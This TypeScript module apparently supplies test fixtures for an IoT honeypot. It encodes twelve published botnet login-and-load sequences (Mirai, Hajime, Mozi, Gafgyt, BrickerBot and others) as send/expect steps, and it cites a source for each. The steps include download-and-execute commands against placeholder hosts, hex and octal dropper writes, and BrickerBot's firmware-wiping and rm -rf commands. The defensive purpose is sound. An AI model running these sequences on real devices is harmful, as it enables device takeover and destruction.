/**
 * Twelve programs that break into devices, as what they send and what they wait for before they go on. Written from
 * published descriptions and sources (named at each); addresses are of documentation networks, binaries are not here.
 */

export interface LoaderStep {
  /** Sent with CR LF, unless it is null: then only waited. */
  readonly send: string | null;
  /** The loader goes on when it sees this in what came since the step began; otherwise it gives up. */
  readonly expect: RegExp;
}

export interface LoaderScript {
  readonly name: string;
  readonly source: string;
  /** Steps after the login. */
  readonly steps: (arch: LoaderArch) => readonly LoaderStep[];
  /** Places that the decoy must have written down. */
  readonly indicators: readonly string[];
  /** Content that must have been captured, whole. */
  readonly uploads: readonly Buffer[];
}

export interface LoaderArch {
  /** `e_machine` of the device. */
  readonly machine: number;
  readonly isBigEndian: boolean;
}

const PROMPT = /[#$>] $/;
const TOKEN = (token: string) => new RegExp(`${token}: applet not found`);

/** What a dropper writes: a header of ELF and bytes of all values. */
export const DROPPER = Buffer.concat([
  Buffer.from('7f454c4601010100000000000000000002002800010000005480000034000000', 'hex'),
  Buffer.from(Array.from({ length: 900 }, (_one, n) => (n * 7 + (n >> 8)) & 0xff)),
]);

const hexPieces = (bytes: Buffer, size: number) =>
  Array.from({ length: Math.ceil(bytes.length / size) }, (_one, n) =>
    [...bytes.subarray(n * size, (n + 1) * size)]
      .map((byte) => `\\x${byte.toString(16).padStart(2, '0')}`)
      .join(''),
  );
const octalPieces = (bytes: Buffer, size: number) =>
  Array.from({ length: Math.ceil(bytes.length / size) }, (_one, n) =>
    [...bytes.subarray(n * size, (n + 1) * size)]
      .map((byte) => `\\${byte.toString(8).padStart(3, '0')}`)
      .join(''),
  );

/** 20 bytes of an ELF header of the device's architecture. */
const header = ({ machine, isBigEndian }: LoaderArch) =>
  new RegExp(
    `\\x7fELF\\x01${isBigEndian ? '\\x02' : '\\x01'}[\\s\\S]{12}${isBigEndian ? `\\x00\\x${machine.toString(16).padStart(2, '0')}` : `\\x${machine.toString(16).padStart(2, '0')}\\x00`}`,
  );

const intoShell = (token: string): LoaderStep[] => [
  { send: 'enable', expect: PROMPT },
  { send: 'system', expect: PROMPT },
  { send: 'shell', expect: PROMPT },
  { send: 'sh', expect: PROMPT },
  { send: `/bin/busybox ${token}`, expect: TOKEN(token) },
];

const miraiBegin = (token: string, arch: LoaderArch): LoaderStep[] => [
  ...intoShell(token),
  {
    send: `/bin/busybox ps; /bin/busybox ${token}`,
    expect: new RegExp(`1 root [\\s\\S]*init[\\s\\S]*${token}: applet not found`),
  },
  {
    send: `/bin/busybox cat /proc/mounts; /bin/busybox ${token}`,
    expect: new RegExp(`/tmp \\w+ rw[\\s\\S]*${token}: applet not found`),
  },
  {
    send: `echo -e '\\x6b\\x61\\x6d\\x69/tmp' > /tmp/.nippon; /bin/busybox cat /tmp/.nippon; /bin/busybox rm /tmp/.nippon`,
    expect: /kami\/tmp/,
  },
  { send: `/bin/busybox ${token}`, expect: TOKEN(token) },
  { send: 'cd /tmp/', expect: PROMPT },
  {
    send: `/bin/busybox cp /bin/echo dvrHelper; >dvrHelper; /bin/busybox chmod 777 dvrHelper; /bin/busybox ${token}`,
    expect: TOKEN(token),
  },
  { send: `/bin/busybox cat /bin/echo`, expect: header(arch) },
  { send: `/bin/busybox ${token}`, expect: TOKEN(token) },
  {
    send: `/bin/busybox wget; /bin/busybox tftp; /bin/busybox ${token}`,
    expect: new RegExp(`Usage: wget[\\s\\S]*Usage: tftp[\\s\\S]*${token}: applet not found`),
  },
];

const MIRAI = 'Mirai source, loader/src/server.c and connection.c (published September 2016)';

export const LOADERS: readonly LoaderScript[] = [
  {
    name: 'mirai-scanner',
    source: 'Mirai source, mirai/bot/scanner.c',
    steps: () => intoShell('MIRAI'),
    indicators: [],
    uploads: [],
  },
  {
    name: 'mirai-loader-wget',
    source: MIRAI,
    steps: (arch) => [
      ...miraiBegin('ECCHI', arch),
      {
        send: '/bin/busybox wget http://198.51.100.7:80/bins/mirai.arm -O - > dvrHelper; /bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI',
        expect: /100%[\s\S]*ECCHI: applet not found/,
      },
      { send: './dvrHelper telnet.arm; /bin/busybox IHCCE', expect: TOKEN('IHCCE') },
      { send: 'rm -rf upnp; > dvrHelper; /bin/busybox ECCHI', expect: TOKEN('ECCHI') },
    ],
    indicators: ['http://198.51.100.7:80/bins/mirai.arm'],
    uploads: [],
  },
  {
    name: 'mirai-loader-tftp',
    source: MIRAI,
    steps: (arch) => [
      ...miraiBegin('ECCHI', arch),
      {
        send: '/bin/busybox tftp -g -l dvrHelper -r mirai.arm 198.51.100.8; /bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI',
        expect: /^(?![\s\S]*denied)[\s\S]*ECCHI: applet not found/,
      },
      { send: './dvrHelper telnet.arm; /bin/busybox IHCCE', expect: TOKEN('IHCCE') },
    ],
    indicators: ['tftp://198.51.100.8/mirai.arm'],
    uploads: [],
  },
  {
    name: 'mirai-loader-echo',
    source: MIRAI,
    steps: (arch) => [
      ...miraiBegin('ECCHI', arch),
      {
        send: '/bin/busybox cp dvrHelper upnp; > upnp; /bin/busybox chmod 777 upnp; /bin/busybox ECCHI',
        expect: TOKEN('ECCHI'),
      },
      ...hexPieces(DROPPER, 128).map((piece, n) => ({
        send: `echo -ne '${piece}' ${n === 0 ? '>' : '>>'} upnp; /bin/busybox ECCHI`,
        expect: TOKEN('ECCHI'),
      })),
      { send: './upnp > dvrHelper; ./dvrHelper telnet.arm; /bin/busybox IHCCE', expect: TOKEN('IHCCE') },
      { send: 'rm -rf upnp; > dvrHelper; /bin/busybox ECCHI', expect: TOKEN('ECCHI') },
    ],
    indicators: [],
    uploads: [DROPPER],
  },
  {
    name: 'hajime',
    source:
      'Edwards and Profetis, "Hajime: Analysis of a decentralized internet worm for IoT devices" (Rapidity Networks, 2016)',
    steps: (arch) => [
      { send: 'enable', expect: PROMPT },
      { send: 'system', expect: PROMPT },
      { send: 'shell', expect: PROMPT },
      { send: 'sh', expect: PROMPT },
      { send: 'cat /proc/mounts; /bin/busybox ABCDE', expect: /tmp[\s\S]*ABCDE: applet not found/ },
      { send: 'cd /tmp; (cat .s || cp /bin/echo .s); /bin/busybox FGHIJ', expect: TOKEN('FGHIJ') },
      { send: 'nc; wget; /bin/busybox KLMNO', expect: /Usage: wget[\s\S]*KLMNO: applet not found/ },
      { send: '(dd bs=52 count=1 if=.s || cat .s)', expect: header(arch) },
      { send: '/bin/busybox PQRST', expect: TOKEN('PQRST') },
      {
        send: 'rm .s; wget http://198.51.100.9:5523/.i; chmod +x .i; ./.i; exit 0; /bin/busybox UVWXY',
        expect: /(#|>) $|^$|100%/,
      },
    ],
    indicators: ['http://198.51.100.9:5523/.i'],
    uploads: [],
  },
  {
    name: 'mozi',
    source:
      'Turing, Wang and Li, "Mozi, another botnet using DHT" (360 Netlab, 2019), and captures that they describe',
    steps: (arch) => [
      ...intoShell('MOZI').slice(0, 4),
      {
        send: 'ps|grep "telnetd"|grep -v grep; /bin/busybox MOZI',
        expect: /telnetd[\s\S]*MOZI: applet not found/,
      },
      {
        send: 'dd bs=52 count=1 if=/bin/ls || cat /bin/ls || while read i; do echo $i; done < /bin/ls || while read i; do echo $i; done < /bin/busybox',
        expect: header(arch),
      },
      { send: '>/tmp/.a && cd /tmp; >/var/.a && cd /var; >/dev/.a && cd /dev', expect: PROMPT },
      {
        send: '/bin/busybox rm -rf .i; cd /var/tmp || cd /tmp; /bin/busybox wget http://198.51.100.10:42352/i -O .i || wget http://198.51.100.10:42352/i -O .i',
        expect: /100%/,
      },
      {
        send: "chmod 777 .i || (cp /bin/ls .j && cat .i>.j && rm .i && cp .j .i && rm .j); ./.i; echo -e '\\x63\\x6f\\x6e\\x6e'",
        expect: /conn/,
      },
    ],
    indicators: ['http://198.51.100.10:42352/i'],
    uploads: [],
  },
  {
    name: 'gafgyt',
    source: 'Gafgyt (BASHLITE, Qbot) source, client.c, StartTheLelz (published 2015)',
    steps: () => [
      { send: 'sh', expect: PROMPT },
      { send: 'shell', expect: PROMPT },
      {
        send: '/bin/busybox;echo -e "\\147\\141\\171\\146\\147\\164"',
        expect: /multi-call binary[\s\S]*gayfgt/,
      },
      {
        send: 'cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://203.0.113.4/bins.sh; curl -O http://203.0.113.4/bins.sh; chmod 777 bins.sh; sh bins.sh; tftp 203.0.113.4 -c get tftp1.sh; chmod 777 tftp1.sh; sh tftp1.sh; ftpget -v -u anonymous -p anonymous -P 21 203.0.113.4 ftp1.sh ftp1.sh; sh ftp1.sh; rm -rf bins.sh tftp1.sh ftp1.sh; echo finished',
        expect: /finished\r\n/,
      },
    ],
    indicators: ['http://203.0.113.4/bins.sh', 'tftp://203.0.113.4/tftp1.sh', 'ftp://203.0.113.4/ftp1.sh'],
    uploads: [],
  },
  {
    name: 'aisuru',
    source: 'Token and sequence as in public reports of the variant AISURU',
    steps: (arch) => [
      { send: 'linuxshell', expect: PROMPT },
      ...intoShell('AISURU'),
      {
        send: 'while read i; do /bin/busybox echo $i; done < /proc/mounts; /bin/busybox AISURU',
        expect: /\/proc proc rw[\s\S]*AISURU: applet not found/,
      },
      {
        send: '>/tmp/.x && cd /tmp; for a in /bin/echo /bin/cat; do cp $a .x && break; done; /bin/busybox AISURU',
        expect: TOKEN('AISURU'),
      },
      { send: 'head -c 20 .x; /bin/busybox AISURU', expect: header(arch) },
      ...octalPieces(DROPPER, 64).map((piece, n) => ({
        send: `printf '${piece}' ${n === 0 ? '>' : '>>'} .x`,
        expect: PROMPT,
      })),
      { send: 'chmod +x .x && ./.x telnet; /bin/busybox AISURU', expect: TOKEN('AISURU') },
    ],
    indicators: [],
    uploads: [DROPPER],
  },
  {
    name: 'iz1h9',
    source: 'Token and sequence as in public reports of the variant IZ1H9',
    steps: () => [
      ...intoShell('IZ1H9'),
      {
        send: 'for d in /tmp /var /dev/shm /mnt; do if echo test > $d/.t 2>/dev/null && [ -s $d/.t ]; then rm -f $d/.t; cd $d; echo "W:$d"; break; fi; done',
        expect: /W:\/tmp/,
      },
      {
        send: 'n=$(uname -m); case "$n" in arm*) f=arm;; mips*) f=mips;; *) f=x86;; esac; wget -q http://203.0.113.9/$f -O l || curl -s http://203.0.113.9/$f -o l; echo "F:$f:$?"',
        expect: /F:(arm|mips):0/,
      },
      { send: 'chmod 777 l; ./l; rm -f l; history -c; /bin/busybox IZ1H9', expect: TOKEN('IZ1H9') },
    ],
    indicators: [],
    uploads: [],
  },
  {
    name: 'unstable',
    source: 'Token and sequence as in public reports of the variant UNSTABLE',
    steps: () => [
      ...intoShell('UNSTABLE'),
      {
        send: 'cat /proc/cpuinfo; /bin/busybox UNSTABLE',
        expect: /(BogoMIPS|cpu model)[\s\S]*UNSTABLE: applet not found/,
      },
      { send: "cd /tmp; cat > u.sh <<'EOF'", expect: /> $/ },
      { send: 'for a in arm mips mpsl; do', expect: /> $/ },
      { send: '  wget -q http://203.0.113.20:8080/u.$a -O u.$a && chmod 777 u.$a && ./u.$a', expect: /> $/ },
      { send: 'done', expect: /> $/ },
      { send: 'EOF', expect: PROMPT },
      { send: 'sh u.sh; ls u.*; /bin/busybox UNSTABLE', expect: /u\.sh[\s\S]*UNSTABLE: applet not found/ },
    ],
    indicators: [
      'http://203.0.113.20:8080/u.arm',
      'http://203.0.113.20:8080/u.mips',
      'http://203.0.113.20:8080/u.mpsl',
    ],
    uploads: [],
  },
  {
    name: 'remaiten',
    source: 'Malik and Leveille, "Meet Remaiten" (ESET, 2016)',
    steps: (arch) => [
      ...intoShell('CHECK'),
      { send: 'cat /bin/busybox | head -c 52; echo; echo DONE', expect: header(arch) },
      { send: 'cd /tmp; rm -f .d; echo START', expect: /START\r\n/ },
      ...hexPieces(DROPPER, 96).map((piece) => ({
        send: `/bin/busybox echo -ne "${piece}" >> .d && echo MORE`,
        expect: /MORE\r\n/,
      })),
      {
        send: 'wc -c .d; chmod 777 .d; ./.d 198.51.100.30 > .b; ./.b & sleep 1; echo OVER',
        expect: new RegExp(`${DROPPER.length} \\.d[\\s\\S]*OVER\\r\\n`),
      },
    ],
    indicators: [],
    uploads: [DROPPER],
  },
  {
    name: 'brickerbot',
    source: 'Radware ERT, "BrickerBot results in PDoS attack" (2017): what it destroys',
    steps: () => [
      { send: 'enable', expect: PROMPT },
      { send: 'shell', expect: PROMPT },
      { send: 'sh', expect: PROMPT },
      { send: 'busybox cat /dev/urandom >/dev/mtdblock0 &', expect: PROMPT },
      { send: 'busybox cat /dev/urandom >/dev/mtdblock1 &', expect: PROMPT },
      {
        send: 'dd if=/dev/urandom of=/dev/mtdblock2 bs=1024 count=64; route del default; iproute del default',
        expect: /records out[\s\S]*iproute: not found/,
      },
      {
        send: 'iptables -F; iptables -t nat -F; iptables -A OUTPUT -j DROP; echo rules',
        expect: /rules\r\n/,
      },
      {
        send: 'rm -rf /* 2>/dev/null; sysctl -w net.ipv4.tcp_timestamps=0; ls /; echo left',
        expect: /left\r\n/,
      },
      { send: 'reboot', expect: /^/ },
    ],
    indicators: [],
    uploads: [],
  },
];
